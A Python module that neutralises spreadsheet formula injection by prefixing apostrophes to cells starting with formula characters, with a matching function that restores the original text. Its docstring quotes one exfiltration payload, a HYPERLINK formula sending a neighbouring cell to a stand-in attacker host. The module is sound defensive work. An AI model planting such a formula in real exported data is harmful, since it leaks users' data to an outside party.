"""Cells safe to open in a spreadsheet, and read back as they were written.

A spreadsheet runs a cell starting with "=", "+", "-", "@", a tab or a
carriage return as a formula (OWASP's list), in a CSV file as in an XLSX one:
a title `=HYPERLINK("http://evil.example/?leak="&B2, ...)` would send the next
cell away when clicked. A leading apostrophe makes such a cell text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value):
    """`value` as text a spreadsheet shows and never runs. A text that starts
    with apostrophes before a formula's first character gets one more, so
    read_cell gives every text back unchanged."""
    text = "" if value is None else str(value)
    return QUOTE + text if text.lstrip(QUOTE).startswith(FORMULA_STARTS) else text


def read_cell(text):
    """The text safe_cell made `text` from."""
    if text.startswith(QUOTE) and text.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return text[1:]
    return text
